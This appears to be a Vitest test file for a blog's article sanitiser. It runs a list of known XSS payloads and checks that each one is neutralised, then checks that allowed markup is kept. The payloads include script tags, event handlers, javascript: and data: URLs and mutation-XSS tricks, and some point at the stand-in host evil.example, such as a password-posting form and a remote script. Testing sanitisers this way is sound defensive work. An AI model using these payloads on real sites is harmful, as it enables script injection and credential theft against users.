import { expect, test } from 'vitest';
import { renderArticle } from './render.ts';
import { sanitiseArticle } from './sanitise.ts';

/** Known ways to run a script out of HTML; each published as an article does nothing. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/api/v1/blog-images/a.webp" onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=1>x</text></a></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jav&#x09;ascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<body onload=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div class="admin" style="position:fixed;inset:0">x</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p id="root">clobbered</p>',
  '<img name="getElementById" src="/api/v1/blog-images/a.webp">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/pixel.gif)',
];

test.each(ATTACKS)('%s does nothing', (attack) => {
  for (const html of [sanitiseArticle(attack), renderArticle(attack)]) {
    expect(html).not.toMatch(
      /<(script|style|iframe|object|embed|form|input|button|svg|math|meta|base|link|body)\b/i,
    );
    expect(html).not.toMatch(/<[^>]*\s(on\w+|style|srcdoc|formaction|class|name|http-equiv|xlink:href)\s*=/i);
    expect(html).not.toMatch(/<[^>]*(?:href|src)\s*=\s*["']?\s*(?:javascript|data|vbscript|\/\/)/i);
    expect(html).not.toContain('src="https://evil');
  }
});

test('what an article needs stays', () => {
  const html =
    '<h2>One</h2><p>A <strong>b</strong> <a href="https://pib.gov.in" title="t">c</a></p><ul><li>d</li></ul>' +
    '<table><thead><tr><th scope="col">e</th></tr></thead><tbody><tr><td>f</td></tr></tbody></table>' +
    '<p lang="hi" dir="ltr">जल</p>';
  expect(sanitiseArticle(html)).toBe(html);
});

test('a picture of ours stays and is loaded late', () => {
  expect(sanitiseArticle('<img src="/api/v1/blog-images/a-1.webp" alt="A drum">')).toBe(
    '<img src="/api/v1/blog-images/a-1.webp" alt="A drum" loading="lazy" decoding="async" />',
  );
});

test('a picture of ours keeps its size', () => {
  expect(sanitiseArticle('<img src="/api/v1/blog-images/a-1.webp" alt="" width="30" height="20">')).toContain(
    'width="30" height="20"',
  );
});

test('a heading of the first level becomes one of the second: the page has its own', () => {
  expect(sanitiseArticle('<h1>Title</h1>')).toBe('<h2>Title</h2>');
});
